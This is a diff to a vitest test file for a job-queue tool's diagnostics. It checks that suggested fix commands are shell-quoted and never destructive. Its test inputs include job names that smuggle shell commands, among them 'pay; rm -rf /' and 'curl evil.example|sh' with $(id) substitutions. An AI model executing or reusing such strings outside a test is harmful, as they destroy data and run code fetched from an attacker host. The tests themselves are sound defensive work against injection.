@@ -1,4 +1,6 @@
+import { spawnSync } from 'node:child_process';
 import { afterEach, describe, expect, it, vi } from 'vitest';
+import { shellWord } from '../../src/core/shell.js';
 import { judgeVersion } from '../../src/store/inspect.js';
 import { judgeOplog } from '../../src/mongodb/inspect.js';
 import { judgeCrowd, judgeVacuum } from '../../src/sql/inspect.js';
@@ -15,16 +17,56 @@ describe('the doctor, on any store', () => {
     const store = memory();
     const mill = aMill(store);
     await mill.enqueue('orphan');
+    const other = aMill(store);
+    other.job('mail', () => undefined);
+    await other.start();
     expect(await findingOf(mill, 'jobs')).toMatchObject({
       status: 'warn',
       found: expect.stringContaining('orphan') as string,
       fix: expect.stringContaining('tidemill cancel --name orphan') as string,
+      destroys: true,
     });
     const worker = aMill(store);
     worker.job('orphan', { concurrency: 1 }, () => undefined);
     await worker.start();
     expect((await findingOf(mill, 'jobs')).status).toBe('ok');
   });
+
+  it('names no command that destroys anything while no instance is alive', async () => {
+    const mill = aMill(memory());
+    await mill.enqueue('nightly-report');
+    await mill.enqueue('pay; rm -rf /');
+    const finding = await findingOf(mill, 'jobs');
+    expect(finding.fix).toBe('start an instance with a handler for "nightly-report", "pay; rm -rf /"');
+    for (const { fix = '', destroys } of await mill.doctor()) {
+      expect(fix).not.toMatch(/cancel|drop/u);
+      expect(destroys).toBeUndefined();
+    }
+  });
+
+  it('quotes names in commands for a shell', async () => {
+    const store = memory();
+    const mill = aMill(store);
+    const live = aMill(store);
+    await live.start();
+    const name = "pay; curl evil.example|sh $(id) `id` 'x'";
+    await mill.enqueue(name);
+    await mill.jobs.pause(name);
+    const quoted = String.raw`'pay; curl evil.example|sh $(id) ${'`id`'} '\''x'\'''`;
+    expect((await findingOf(mill, 'jobs')).fix).toContain(`tidemill cancel --name ${quoted}`);
+    expect((await findingOf(mill, 'paused')).fix).toBe(`tidemill resume ${quoted}`);
+  });
+
+  it.each(["it's; rm -rf /", '$(id)', '`id`', 'a\nb', 'a\u001Bb', 'plain-name', 'a b', '"', '\\', '*', '~'])(
+    'writes %j so that a shell reads it as one word',
+    (name) => {
+      const { stdout } = spawnSync('bash', ['-c', `printf %s ${shellWord(name)}`], {
+        encoding: 'utf8',
+        env: { ...process.env, LC_ALL: 'C.UTF-8' },
+      });
+      expect(stdout).toBe(name);
+    },
+  );
 
   it('says that nothing is alive, and who is', async () => {
     const store = memory();
